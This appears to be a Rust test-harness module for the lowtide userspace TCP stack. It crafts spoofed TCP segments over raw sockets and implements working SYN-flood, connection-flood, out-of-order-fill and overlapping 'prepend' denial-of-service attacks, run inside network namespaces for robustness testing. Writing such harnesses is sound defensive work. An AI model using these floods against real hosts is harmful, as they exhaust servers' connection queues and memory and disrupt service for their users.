//! A hostile peer on the real path (issue 27): hand-written TCP segments sent from a
//! raw IPv4 socket (`IPPROTO_RAW`, so any source address) and the victim's answers
//! read from an `AF_PACKET` socket bound to the device they cross. The peer's
//! address is one no host owns (the kernel drops the victim's answers after the
//! packet socket saw them, and no kernel TCP resets the handshake), so it must be
//! on the device's subnet but not the kernel's own.
//!
//! Made for network namespaces: open the peer on a thread inside the victim's
//! namespace (`netns::NetNs::spawn`). Needs `CAP_NET_RAW`.

use lowtide_wire::build::{syn_options, tcp_packet, Csum};
use lowtide_wire::ip::IpRepr;
use lowtide_wire::tcp::{TcpFlags, TcpOptions, TcpRepr};
use std::io;
use std::net::{SocketAddr, SocketAddrV4};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// `ETH_P_IP`, in network order for `AF_PACKET`.
const ETH_P_IP_BE: u16 = (libc::ETH_P_IP as u16).to_be();

/// One connection of the peer, after its handshake.
#[derive(Debug, Clone, Copy)]
pub struct Conn {
    /// The peer's port.
    pub port: u16,
    /// The peer's ISN.
    pub isn: u32,
    /// The victim's ISN.
    pub irs: u32,
    /// The victim's window scale.
    pub wscale: u8,
    /// The victim's last TSval (echoed).
    pub ts_recent: u32,
}

/// A raw-socket TCP peer from `src` to `dst`.
pub struct RawPeer {
    tx: OwnedFd,
    rx: OwnedFd,
    src: SocketAddrV4,
    dst: SocketAddrV4,
    start: Instant,
    /// Segments sent.
    pub sent: u64,
}

fn check(r: libc::c_int) -> io::Result<libc::c_int> {
    match r {
        -1 => Err(io::Error::last_os_error()),
        r => Ok(r),
    }
}

impl RawPeer {
    /// Opens the sockets: the raw sender, and the packet socket on `iface` (in this
    /// thread's namespace).
    pub fn open(iface: &str, src: SocketAddrV4, dst: SocketAddrV4) -> io::Result<RawPeer> {
        // SAFETY: socket(2) with constant arguments; each result is checked and owned.
        let tx = check(unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) })?;
        let tx = unsafe { OwnedFd::from_raw_fd(tx) };
        let rx = check(unsafe {
            libc::socket(
                libc::AF_PACKET,
                libc::SOCK_DGRAM,
                ETH_P_IP_BE as libc::c_int,
            )
        })?;
        let rx = unsafe { OwnedFd::from_raw_fd(rx) };
        let name = std::ffi::CString::new(iface).map_err(|_| io::ErrorKind::InvalidInput)?;
        // SAFETY: a NUL-terminated name.
        let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if ifindex == 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: a zeroed sockaddr_ll filled with the family, protocol and index.
        let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        sll.sll_family = libc::AF_PACKET as u16;
        sll.sll_protocol = ETH_P_IP_BE;
        sll.sll_ifindex = ifindex as i32;
        let len = std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t;
        // SAFETY: bind(2) with a valid sockaddr_ll of its size.
        check(unsafe {
            libc::bind(
                rx.as_raw_fd(),
                &sll as *const _ as *const libc::sockaddr,
                len,
            )
        })?;
        // A large receive buffer: the victim answers every segment.
        let size: libc::c_int = 8 << 20;
        // SAFETY: setsockopt(2) with an int.
        unsafe {
            libc::setsockopt(
                rx.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_RCVBUFFORCE,
                &size as *const _ as *const libc::c_void,
                4,
            )
        };
        Ok(RawPeer {
            tx,
            rx,
            src,
            dst,
            start: Instant::now(),
            sent: 0,
        })
    }

    /// Sends an IPv4 packet (raw sockets take the whole packet, `IP_HDRINCL`).
    pub fn send(&mut self, pkt: &[u8]) -> io::Result<()> {
        // SAFETY: a zeroed sockaddr_in with the destination.
        let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
        to.sin_family = libc::AF_INET as u16;
        to.sin_addr.s_addr = u32::from(*self.dst.ip()).to_be();
        let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
        loop {
            // SAFETY: sendto(2) of a buffer of its length to a valid address.
            let r = unsafe {
                libc::sendto(
                    self.tx.as_raw_fd(),
                    pkt.as_ptr() as *const libc::c_void,
                    pkt.len(),
                    0,
                    &to as *const _ as *const libc::sockaddr,
                    len,
                )
            };
            match r {
                -1 if io::Error::last_os_error().raw_os_error() == Some(libc::ENOBUFS) => {
                    std::thread::sleep(Duration::from_micros(50));
                }
                -1 => return Err(io::Error::last_os_error()),
                _ => {
                    self.sent += 1;
                    return Ok(());
                }
            }
        }
    }

    /// The next segment the victim sent to the peer, waiting at most `timeout`.
    pub fn recv(&mut self, timeout: Duration) -> io::Result<Option<TcpRepr>> {
        let end = Instant::now() + timeout;
        let mut buf = vec![0u8; 65536];
        loop {
            let left = end.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Ok(None);
            }
            let mut pfd = libc::pollfd {
                fd: self.rx.as_raw_fd(),
                events: libc::POLLIN,
                revents: 0,
            };
            // SAFETY: poll(2) on one valid pollfd.
            let n = check(unsafe { libc::poll(&mut pfd, 1, left.as_millis().max(1) as i32) })?;
            if n == 0 {
                continue;
            }
            let Some(len) = self.recv_into(&mut buf, 0)? else {
                continue;
            };
            if let Some(th) = self.parse(&buf[..len]) {
                return Ok(Some(th));
            }
        }
    }

    /// The next segment the victim sent to any port of the peer's address, without
    /// waiting: its port and header.
    pub fn try_recv_any(&mut self) -> io::Result<Option<(u16, TcpRepr)>> {
        let mut buf = [0u8; 2048];
        while let Some(len) = self.recv_into(&mut buf, libc::MSG_DONTWAIT | libc::MSG_TRUNC)? {
            if let Some(seg) = self.parse_any(&buf[..len]) {
                return Ok(Some(seg));
            }
        }
        Ok(None)
    }

    /// One packet from the packet socket into `buf` with recv(2)'s `flags`: its
    /// length (at most `buf`'s), or `None` if a non-blocking read found nothing.
    fn recv_into(&self, buf: &mut [u8], flags: libc::c_int) -> io::Result<Option<usize>> {
        // SAFETY: recv(2) into a buffer of its length.
        let r = unsafe {
            libc::recv(
                self.rx.as_raw_fd(),
                buf.as_mut_ptr() as *mut libc::c_void,
                buf.len(),
                flags,
            )
        };
        if r >= 0 {
            return Ok(Some((r as usize).min(buf.len())));
        }
        match io::Error::last_os_error() {
            e if e.kind() == io::ErrorKind::WouldBlock => Ok(None),
            e => Err(e),
        }
    }

    /// A TCP segment from the victim to the peer's own port in `pkt`, if it is one.
    fn parse(&self, pkt: &[u8]) -> Option<TcpRepr> {
        self.parse_any(pkt)
            .and_then(|(port, th)| (port == self.src.port()).then_some(th))
    }

    /// A TCP segment from the victim to any port of the peer's address in `pkt`.
    fn parse_any(&self, pkt: &[u8]) -> Option<(u16, TcpRepr)> {
        let ip = IpRepr::parse(pkt, false).ok()?;
        let to_us = ip.dst == std::net::IpAddr::V4(*self.src.ip());
        let from_victim = ip.src == std::net::IpAddr::V4(*self.dst.ip());
        let (th, _) = TcpRepr::parse(pkt.get(ip.header_len..)?).ok()?;
        (to_us && from_victim).then_some((th.dst_port, th))
    }

    /// TSval: milliseconds since the peer opened.
    fn ts(&self) -> u32 {
        self.start.elapsed().as_millis() as u32
    }

    /// A segment of `c` at `off` bytes above the first data byte.
    pub fn segment(&self, c: &Conn, flags: TcpFlags, off: u32, payload: &[u8]) -> Vec<u8> {
        let th = TcpRepr {
            seq: c.isn.wrapping_add(1).wrapping_add(off),
            ack: c.irs.wrapping_add(1),
            flags,
            window: 65535,
            options: TcpOptions {
                timestamp: Some((self.ts(), c.ts_recent)),
                ..TcpOptions::default()
            },
            ..TcpRepr::default()
        };
        let src = SocketAddr::new((*self.src.ip()).into(), c.port);
        tcp_packet(src, SocketAddr::V4(self.dst), &th, payload, 1, Csum::Full)
    }

    /// A SYN (MSS 1460, window scale 7, SACK, timestamps) from the peer's address
    /// and `port`, with `isn`.
    pub fn syn(&self, port: u16, isn: u32) -> Vec<u8> {
        let th = TcpRepr {
            seq: isn,
            flags: TcpFlags::SYN,
            window: 65535,
            options: syn_options(self.ts()),
            ..TcpRepr::default()
        };
        let src = SocketAddr::new((*self.src.ip()).into(), port);
        tcp_packet(src, SocketAddr::V4(self.dst), &th, &[], 1, Csum::Full)
    }

    /// The three-way handshake from the peer's own port, its SYN sent again each
    /// second until `timeout`.
    pub fn handshake(&mut self, isn: u32, timeout: Duration) -> io::Result<Conn> {
        let end = Instant::now() + timeout;
        while Instant::now() < end {
            let syn = self.syn(self.src.port(), isn);
            self.send(&syn)?;
            let wait = Instant::now() + Duration::from_secs(1);
            while let Some(th) = self.recv(wait.saturating_duration_since(Instant::now()))? {
                if th.flags.contains(TcpFlags::SYN | TcpFlags::ACK) && th.ack == isn.wrapping_add(1)
                {
                    let c = Conn {
                        port: self.src.port(),
                        isn,
                        irs: th.seq,
                        wscale: th.options.wscale.unwrap_or(0).min(14),
                        ts_recent: th.options.timestamp.map_or(0, |t| t.0),
                    };
                    let ack = self.segment(&c, TcpFlags::ACK, 0, &[]);
                    self.send(&ack)?;
                    return Ok(c);
                }
            }
        }
        Err(io::Error::new(io::ErrorKind::TimedOut, "no SYN-ACK"))
    }

    /// The victim's window over `c` (bytes): a 1-byte probe out of order, and the
    /// window of the duplicate ACK it draws.
    pub fn window(&mut self, c: &mut Conn, timeout: Duration) -> io::Result<u32> {
        let probe = self.segment(c, TcpFlags::ACK, 1, &[0]);
        self.send(&probe)?;
        while let Some(th) = self.recv(timeout)? {
            if !th.flags.contains(TcpFlags::SYN) && th.ack == c.isn.wrapping_add(1) {
                if let Some(t) = th.options.timestamp {
                    c.ts_recent = t.0;
                }
                return Ok((th.window as u32) << c.wscale);
            }
        }
        Err(io::Error::new(
            io::ErrorKind::TimedOut,
            "no ACK of the probe",
        ))
    }

    /// Opens the peer, completes a handshake with `isn` and measures the window:
    /// the start of the attacks on one connection.
    pub fn connect(
        iface: &str,
        src: SocketAddrV4,
        dst: SocketAddrV4,
        isn: u32,
    ) -> io::Result<(RawPeer, Conn, u32)> {
        let mut p = RawPeer::open(iface, src, dst)?;
        let mut c = p.handshake(isn, Duration::from_secs(10))?;
        let window = p.window(&mut c, Duration::from_secs(5))?;
        Ok((p, c, window))
    }

    /// What the attack did: the segments sent since the peer opened, over `window`,
    /// in the time since `start`.
    fn report(&self, window: u32, start: Instant) -> AttackReport {
        AttackReport {
            window,
            segments: self.sent,
            handshakes: 0,
            fins: 0,
            elapsed: start.elapsed(),
        }
    }

    /// Drains the packet socket (the victim's duplicate ACKs, and whatever else
    /// crossed the device) without waiting: reads until a read would block, each
    /// packet truncated to its first bytes, and returns how many it read.
    pub fn drain(&mut self) -> io::Result<u64> {
        let mut buf = [0u8; 64];
        let mut n = 0;
        while self
            .recv_into(&mut buf, libc::MSG_DONTWAIT | libc::MSG_TRUNC)?
            .is_some()
        {
            n += 1;
        }
        Ok(n)
    }
}

/// Paces an attacker's segments at a fixed rate, so that every one reaches the
/// victim's TCP instead of overflowing the queue in front of it (the TUN device's, when
/// lowtide reads slower than a raw socket writes). Sleeps only when a millisecond
/// ahead: a sleep per segment would cost more than the segment.
#[derive(Debug, Clone, Copy)]
pub struct Pacer {
    start: Instant,
    rate: Option<f64>,
    n: u64,
}

impl Pacer {
    /// `rate` segments per second; `None` sends as fast as the socket takes them.
    pub fn new(rate: Option<f64>) -> Pacer {
        Pacer {
            start: Instant::now(),
            rate: rate.filter(|r| *r > 0.0),
            n: 0,
        }
    }

    /// Waits until the next segment is due.
    pub fn wait(&mut self) {
        if let Some(rate) = self.rate {
            let due = self.start + Duration::from_secs_f64(self.n as f64 / rate);
            let ahead = due.saturating_duration_since(Instant::now());
            if ahead > Duration::from_millis(1) {
                std::thread::sleep(ahead);
            }
        }
        self.n += 1;
    }
}

/// What an attack did.
#[derive(Debug, Clone, Copy, Default)]
pub struct AttackReport {
    /// The victim's window when the attack started (bytes; 0 for the floods).
    pub window: u32,
    /// Segments sent.
    pub segments: u64,
    /// Handshakes completed (the connection flood).
    pub handshakes: u64,
    /// The victim's FINs answered with the peer's ([`AfterHandshake::AnswerFin`]).
    pub fins: u64,
    /// Wall time the attack took.
    pub elapsed: Duration,
}

/// The 1-byte out-of-order fill: a handshake from `src` to `dst`, then 1-byte
/// segments with 1-byte gaps over the victim's window (its upper half first, then
/// the lower half), never the byte at `rcv_nxt`, `rounds` times over, at `rate`
/// segments per second (as fast as possible if `None`).
pub fn ofo_fill(
    iface: &str,
    src: SocketAddrV4,
    dst: SocketAddrV4,
    rounds: u32,
    rate: Option<f64>,
) -> io::Result<AttackReport> {
    let (mut p, c, window) = RawPeer::connect(iface, src, dst, 0x1234_5678)?;
    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
    let n = window / 2;
    let half = n / 2;
    for _ in 0..rounds {
        for i in 0..n {
            let k = if i < n - half {
                half + i
            } else {
                i - (n - half)
            };
            let seg = p.segment(&c, TcpFlags::ACK, 2 * k + 1, &[0]);
            pace.wait();
            p.send(&seg)?;
            if i % 4096 == 0 {
                p.drain()?;
            }
        }
    }
    Ok(p.report(window, start))
}

/// Full segments of the prepend attack's run.
const RUN_SEG: usize = 1_000;
/// Bytes of each prepended segment.
const PREPEND_LEN: usize = 200;

/// The prepend attack (issue 27 item 2): a handshake, an out-of-order run of full
/// segments over the upper half of the victim's window, then `count` segments of
/// 200 bytes, each starting one byte lower than the last and overlapping the run
/// (each one extends the run's front by a byte: a queue that rebuilds the run per
/// segment is quadratic), at `rate` segments per second.
pub fn prepend(
    iface: &str,
    src: SocketAddrV4,
    dst: SocketAddrV4,
    count: u32,
    rate: Option<f64>,
) -> io::Result<AttackReport> {
    let (mut p, c, window) = RawPeer::connect(iface, src, dst, 0x2345_6789)?;
    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
    let front = window / 2;
    let run = [0x5a; RUN_SEG];
    for off in (front..window.saturating_sub(RUN_SEG as u32)).step_by(RUN_SEG) {
        pace.wait();
        p.send(&p.segment(&c, TcpFlags::ACK, off, &run))?;
    }
    let payload = [0xa5; PREPEND_LEN];
    for i in 1..=count.min(front.saturating_sub(2)) {
        pace.wait();
        p.send(&p.segment(&c, TcpFlags::ACK, front - i, &payload))?;
        if i % 4096 == 0 {
            p.drain()?;
        }
    }
    Ok(p.report(window, start))
}

/// A SYN flood: `count` SYNs to `dst` from `src`'s address and ports cycling above
/// `src`'s port, each with its own ISN, at `rate` per second. The victim's
/// SYN-ACKs go to an address nobody owns and are never answered: half-open
/// handshakes that fill its SYN queue (and then draw SYN cookies).
pub fn syn_flood(
    iface: &str,
    src: SocketAddrV4,
    dst: SocketAddrV4,
    count: u32,
    rate: Option<f64>,
) -> io::Result<AttackReport> {
    let mut p = RawPeer::open(iface, src, dst)?;
    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
    let ports = 65535 - u32::from(src.port());
    for i in 0..count {
        let port = src.port() + (i % ports) as u16;
        let syn = p.syn(port, 0x9e37_79b9u32.wrapping_mul(i + 1));
        pace.wait();
        p.send(&syn)?;
        if i % 1024 == 0 {
            p.drain()?;
        }
    }
    Ok(p.report(0, start))
}

/// What the connection flood's peer does after each handshake.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AfterHandshake {
    /// Nothing: the connection stays silent.
    Silent,
    /// Answers the victim's FIN with its own, acknowledging the victim's: against a
    /// server that closes each connection at once, the victim, which closed first,
    /// holds the TIME-WAIT of each (TIME-WAIT churn).
    AnswerFin,
}

/// A connection flood: `count` handshakes to `dst` from `src`'s address and the
/// ports from `src`'s port up, each completed (the SYN-ACK answered, with SYN
/// cookies too) and then left to `after`, at `rate` SYNs per second; the SYNs left
/// unanswered are sent once more after a second.
pub fn conn_flood(
    iface: &str,
    src: SocketAddrV4,
    dst: SocketAddrV4,
    count: u16,
    rate: Option<f64>,
    after: AfterHandshake,
) -> io::Result<AttackReport> {
    let mut p = RawPeer::open(iface, src, dst)?;
    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
    let count = count.min(u16::MAX - src.port());
    let mut ports = Ports {
        base: src.port(),
        stage: vec![Stage::Syn; usize::from(count)],
        close: after == AfterHandshake::AnswerFin,
    };
    for round in 0..2 {
        for i in 0..count {
            if ports.stage[usize::from(i)] != Stage::Syn {
                continue;
            }
            let port = src.port() + i;
            pace.wait();
            p.send(&p.syn(port, Ports::isn(port)))?;
            ports.answer(&mut p)?;
        }
        let end = Instant::now() + Duration::from_secs(1 + round);
        while Instant::now() < end {
            ports.answer(&mut p)?;
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    let past = |s: Stage| ports.stage.iter().filter(|x| **x >= s).count() as u64;
    Ok(AttackReport {
        handshakes: past(Stage::Established),
        fins: past(Stage::Closed),
        ..p.report(0, start)
    })
}

/// Where a port of [`conn_flood`] stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Stage {
    /// SYN sent, no SYN-ACK answered yet.
    Syn,
    /// Handshake completed.
    Established,
    /// The victim's FIN answered with the peer's.
    Closed,
}

/// The ports of [`conn_flood`] and where each stands.
struct Ports {
    base: u16,
    stage: Vec<Stage>,
    /// Answer the victim's FINs ([`AfterHandshake::AnswerFin`]).
    close: bool,
}

impl Ports {
    /// The peer's ISN on `port`.
    fn isn(port: u16) -> u32 {
        0x6a09_e667u32.wrapping_mul(u32::from(port))
    }

    /// Answers every SYN-ACK waiting for the ports with the handshake's final ACK,
    /// and with `close` every FIN with the peer's own FIN.
    fn answer(&mut self, p: &mut RawPeer) -> io::Result<()> {
        while let Some((port, th)) = p.try_recv_any()? {
            let Some(i) = port.checked_sub(self.base).map(usize::from) else {
                continue;
            };
            if i >= self.stage.len() {
                continue;
            }
            let isn = Ports::isn(port);
            let synack = th.flags.contains(TcpFlags::SYN | TcpFlags::ACK);
            let fin = th.flags.contains(TcpFlags::FIN) && th.ack == isn.wrapping_add(1);
            if (synack && th.ack == isn.wrapping_add(1)) || (fin && self.close) {
                // Acknowledges `seq + 1`: the victim's SYN, or its FIN (no data
                // came before it).
                let c = Conn {
                    port,
                    isn,
                    irs: th.seq,
                    wscale: th.options.wscale.unwrap_or(0).min(14),
                    ts_recent: th.options.timestamp.map_or(0, |t| t.0),
                };
                let flags = match synack {
                    true => TcpFlags::ACK,
                    false => TcpFlags::FIN | TcpFlags::ACK,
                };
                p.send(&p.segment(&c, flags, 0, &[]))?;
                let next = if synack {
                    Stage::Established
                } else {
                    Stage::Closed
                };
                self.stage[i] = self.stage[i].max(next);
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::netns::{privileged, unique_name, NetNs};

    /// `drain` empties the packet socket: a peer on loopback sends SYNs to a port
    /// nobody listens on, the kernel answers each with a RST, and every packet that
    /// crossed `lo` (the SYNs and the RSTs) is read, none left behind.
    #[test]
    fn drain_reads_the_packet_socket_until_it_is_empty() {
        if !privileged("drain_reads_the_packet_socket_until_it_is_empty") {
            return;
        }
        let ns = NetNs::create(&unique_name("atkdr")).expect("netns");
        let up = ns.command("ip").args(["link", "set", "lo", "up"]).status();
        assert!(up.expect("ip").success());
        let (drained, left) = ns
            .spawn(|| {
                let src = "127.0.0.2:30000".parse().unwrap();
                let dst = "127.0.0.1:9".parse().unwrap();
                let mut p = RawPeer::open("lo", src, dst).expect("open");
                for i in 0..100 {
                    let syn = p.syn(30_000 + i, 1000 * u32::from(i));
                    p.send(&syn).expect("send");
                }
                // Loopback delivers within the send; the wait only makes it certain.
                std::thread::sleep(Duration::from_millis(200));
                let drained = p.drain().expect("drain");
                (drained, p.try_recv_any().expect("read"))
            })
            .expect("thread")
            .join()
            .expect("peer");
        // Each SYN and each RST is seen at least once on `lo` (twice: out and in).
        assert!(drained >= 200, "drained {drained} packets");
        assert!(left.is_none(), "a RST was left behind: {left:?}");
    }
}
